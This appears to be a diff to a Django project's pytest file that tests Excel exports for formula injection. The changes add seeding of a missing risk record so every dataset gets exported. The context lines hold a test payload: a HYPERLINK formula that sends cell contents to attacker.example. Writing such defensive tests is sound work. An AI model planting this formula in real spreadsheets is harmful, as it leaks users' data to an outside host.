@@ -18,6 +18,7 @@ from openpyxl import load_workbook
 from boardpack.core import datasets, xlsx
 from boardpack.core.models import Organisation, ReportingPeriod
 from boardpack.finance.models import SavingLine
+from tests.core.records import MAKERS
 
 HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")'
 PAYLOADS = [
@@ -88,12 +89,17 @@ def _is_number(text: str) -> bool:
     return True
 
 
+RECORDS_THE_DEMO_LACKS = {"risks": MAKERS["governance.Risk"]}
+
+
 @pytest.mark.django_db
 @pytest.mark.parametrize("name", datasets.names())
 def test_every_datasets_excel_export_writes_formulas_as_text(name):
     """Every registered dataset, present and future: its export goes through the one writer."""
     dataset = datasets.get(name)
     somerset = Organisation.objects.get(slug="somerset")
+    if name in RECORDS_THE_DEMO_LACKS:  # e.g. the seeds give no risks: make one to export
+        RECORDS_THE_DEMO_LACKS[name]("somerset")
     for period in ReportingPeriod.objects.filter(organisation=somerset).order_by("-month"):
         try:
             document = dataset.document(somerset, period)
